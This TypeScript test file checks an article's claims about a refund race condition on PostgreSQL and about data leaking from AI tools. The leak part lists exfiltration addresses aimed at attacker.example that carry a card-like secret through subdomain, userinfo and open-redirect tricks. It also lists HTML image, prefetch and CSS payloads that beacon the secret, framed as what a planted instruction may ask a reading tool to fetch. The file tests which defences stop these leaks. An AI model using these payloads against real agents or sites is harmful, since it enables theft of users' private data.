// Tries out the article's two holes: two confirmations that wait at the same time, on PostgreSQL, and data
// that leaks through tools that only read and through answers, in a real browser.
import { once } from 'node:events'
import { createServer, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { chromium } from '@playwright/test'
import { findChromium } from '@wize/kit/commands/chromium.ts'
import { pageHeaders } from '@wize/kit/contracts/security-headers.ts'
import type { PostgresServer } from '@wize/kit/server/testing/postgres.ts'
import { type Evidence, extentOf } from '@wize/proof/evidence/evidence.ts'
import type pg from 'pg'
import { identity } from '../identity.ts'
import { openPool, withPostgres } from './postgres/postgres.ts'

export default {
  about:
    'Five hundred orders with two confirmed refunds each, on PostgreSQL; six addresses under seven policies, with a listener that plays the stranger; four answers shown in Chromium.',
  produce: async () => ({
    'race.csv': await withPostgres(race),
    'addresses.csv': await leaksThroughArguments(),
    'answers.csv': await leaksThroughAnswers(),
  }),
  // How often two transactions overlap depends on the machine. Whether any do, doesn't.
  tolerance: { 'race.csv': { refunds: 0.5, refunded_twice: 1 } },
  claims: ({ 'race.csv': runs, 'addresses.csv': policies, 'answers.csv': shown }) => {
    const refundsOnce = (run: string) =>
      runs?.find((row) => row['run'] === run)?.['refunded_twice'] === '0'
    const tellsNobody = (policy: string) =>
      policies?.find((row) => row['policy'] === policy)?.['strangers_told'] === '0'
    const isSilent = (column: string) => shown?.every((row) => row[column] === '0') ?? false
    return [
      {
        says: 'With the check in the statement that writes, two confirmations refund an order once.',
        refutedBy: 'One of 500 orders is refunded twice.',
        fault: 'The check is a statement of its own.',
        holds: refundsOnce('checks in the statement that writes'),
        holdsWithFault: refundsOnce('checks again, then writes'),
      },
      {
        says: 'A lock on the row does the same for a check of its own.',
        refutedBy: 'One of 500 orders is refunded twice.',
        fault: 'The same check without the lock.',
        holds: refundsOnce('locks the row, checks again, writes'),
        holdsWithFault: refundsOnce('checks again, then writes'),
      },
      {
        says: 'If only our own parsed host is allowed and redirects are refused, no address tells a stranger.',
        refutedBy: 'The listener hears the secret as one of the other hosts.',
        fault: 'Redirects are followed.',
        holds: tellsNobody('the parsed host is ours, redirects are refused'),
        holdsWithFault: tellsNobody('the parsed host is ours'),
      },
      {
        says: 'Under this site’s policy, no answer calls the stranger when it’s shown.',
        refutedBy: 'The stranger hears the secret from one of the four.',
        fault: 'The same answers without the policy.',
        holds: isSilent('with_policy'),
        holdsWithFault: isSilent('without_policy'),
      },
    ]
  },
  slow: true,
} satisfies Evidence

const orderCount = 500
const paid = 4900

/** Refunds the confirmed amount of an order and returns whether it did. */
type Refund = (client: pg.PoolClient, order: number) => Promise<boolean>

const write: Refund = async (client, order) => {
  await client.query('update orders set refunded = refunded + $2 where id = $1', [order, paid])
  return true
}

const checkAndWrite =
  (lock = ''): Refund =>
  async (client, order) => {
    const { rows } = await client.query(
      `select cents - refunded as left from orders where id = $1 ${lock}`,
      [order],
    )
    return rows[0].left >= paid && write(client, order)
  }

const refunds: Record<string, Refund> = {
  'trusts the check in plan': write,
  'checks again, then writes': checkAndWrite(),
  'locks the row, checks again, writes': checkAndWrite('for update'),
  async 'checks in the statement that writes'(client, order) {
    const { rowCount } = await client.query(
      `update orders set refunded = refunded + $2
       where id = $1 and refunded + $2 <= cents`,
      [order, paid],
    )
    return rowCount === 1
  },
}

/** Each order has two confirmations for its full price, both planned before either runs. */
async function race(server: PostgresServer) {
  const rows = []
  for (const [run, refund] of Object.entries(refunds)) {
    const pool = openPool(await server.database(), 20)
    await pool.query(
      'create table orders (id integer primary key, cents integer, refunded integer)',
    )
    await pool.query('insert into orders select n, $1, 0 from generate_series(1, $2) n', [
      paid,
      orderCount,
    ])
    const confirmed = async (order: number) => {
      const client = await pool.connect()
      try {
        await client.query('begin')
        const done = await refund(client, order)
        await client.query('commit')
        return done
      } finally {
        client.release()
      }
    }
    const orders = Array.from({ length: orderCount }, (_, index) => index + 1)
    const refunded = await Promise.all(
      orders.flatMap((order) => [confirmed(order), confirmed(order)]),
    )
    const { rows: counted } = await pool.query(
      'select count(*)::int as n from orders where refunded > cents',
    )
    await pool.end()
    rows.push({
      run,
      orders: orderCount,
      confirmations: refunded.length,
      refunds: refunded.filter(Boolean).length,
      refunded_twice: counted[0].n as number,
      extent: extentOf(counted[0].n, orderCount),
    })
  }
  return rows
}

const secret = 'order-1042-card-4242'
const ours = 'docs.example'

/** Addresses that a planted instruction may ask a reading tool for. */
const addresses = [
  `http://attacker.example/?d=${secret}`,
  `http://${secret}.attacker.example/`,
  `http://${ours}.attacker.example/?d=${secret}`,
  `http://${ours}@attacker.example/?d=${secret}`,
  `http://attacker-${ours}/?d=${secret}`,
  `http://${ours}/leave?to=http://attacker.example/?d=${secret}`,
]

/** What a tool that fetches pages may fetch. */
const policies: Record<string, { allows: (address: string) => boolean; follows: boolean }> = {
  'any address': { allows: () => true, follows: true },
  'the text contains our host': { allows: (address) => address.includes(ours), follows: true },
  'the text begins with our host': {
    allows: (address) => address.startsWith(`http://${ours}`),
    follows: true,
  },
  'the parsed host ends with ours': {
    allows: (address) => new URL(address).hostname.endsWith(ours),
    follows: true,
  },
  'the parsed host is ours': {
    allows: (address) => new URL(address).hostname === ours,
    follows: true,
  },
  'the parsed host is ours, redirects are refused': {
    allows: (address) => new URL(address).hostname === ours,
    follows: false,
  },
  'no address at all: a number from the last search': { allows: () => false, follows: false },
}

/** Has a tool fetch the addresses under each policy. One listener on this machine plays all hosts. */
async function leaksThroughArguments() {
  const heard: string[] = []
  const listener = createServer((asked, answer) => {
    const { pathname, searchParams } = new URL(asked.url ?? '/', 'http://host')
    if (asked.headers.host !== ours) heard.push(`${asked.headers.host}${asked.url}`)
    const to = searchParams.get('to')
    // An open redirect, like those of sign-in pages and link counters.
    if (asked.headers.host === ours && pathname === '/leave' && to)
      answer.writeHead(302, { location: to })
    answer.end('a page')
  }).listen(0, '127.0.0.1')
  await once(listener, 'listening')
  const { port } = listener.address() as AddressInfo

  const fetchPage = async (address: string, follows: boolean): Promise<void> => {
    const { hostname, pathname, search } = new URL(address)
    const asked = request({
      host: '127.0.0.1',
      port,
      path: pathname + search,
      headers: { host: hostname },
    }).end()
    const [answer] = await once(asked, 'response')
    answer.resume()
    if (answer.headers.location && follows) await fetchPage(answer.headers.location, false)
  }
  const rows = []
  for (const [policy, { allows, follows }] of Object.entries(policies)) {
    heard.length = 0
    for (const address of addresses) if (allows(address)) await fetchPage(address, follows)
    const told = heard.filter((line) => line.includes(secret)).length
    rows.push({ policy, addresses: addresses.length, strangers_told: told })
  }
  listener.close()
  return rows
}

/** Shows answers that point to a stranger's host in Chromium, and counts the requests that tell the stranger. */
async function leaksThroughAnswers() {
  const heard: string[] = []
  const stranger = createServer((asked, answer) => {
    heard.push(asked.url ?? '')
    answer.end()
  }).listen(0, '127.0.0.1')
  await once(stranger, 'listening')
  const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`
  const answers = {
    'a picture': `<img src="${elsewhere}/pixel.png?d=${secret}" alt="">`,
    'a link': `<a href="${elsewhere}/?d=${secret}">your order</a>`,
    'a link with prefetch': `<link rel="prefetch" href="${elsewhere}/p?d=${secret}">`,
    'a style with a background': `<p style="background: url(${elsewhere}/b.png?d=${secret})">Done</p>`,
  }
  const policy =
    pageHeaders('/', { scripts: [], styles: [], dataImages: false }, identity)[
      'Content-Security-Policy'
    ] ?? ''
  const pages: Record<string, string> = {}
  const site = createServer((asked, answer) => {
    const { pathname, searchParams } = new URL(asked.url ?? '/', 'http://host')
    answer.setHeader('content-type', 'text/html')
    if (searchParams.has('policy')) answer.setHeader('content-security-policy', policy)
    answer.end(`<!doctype html><title>Answer</title>${pages[pathname] ?? ''}`)
  }).listen(0, '127.0.0.1')
  await once(site, 'listening')
  const origin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`

  const browser = await chromium.launch({ executablePath: findChromium(), args: ['--no-sandbox'] })
  const rows = []
  for (const [answer, html] of Object.entries(answers)) {
    const counted: Record<string, number> = {}
    for (const [name, query] of [
      ['without_policy', ''],
      ['with_policy', '?policy'],
    ] as const) {
      heard.length = 0
      pages['/answer'] = html
      const page = await browser.newPage()
      await page.goto(`${origin}/answer${query}`)
      await wait(1000)
      await page.close()
      counted[name] = heard.filter((line) => line.includes(secret)).length
    }
    rows.push({ answer, ...counted })
  }
  await browser.close()
  site.close()
  stranger.close()
  return rows
}
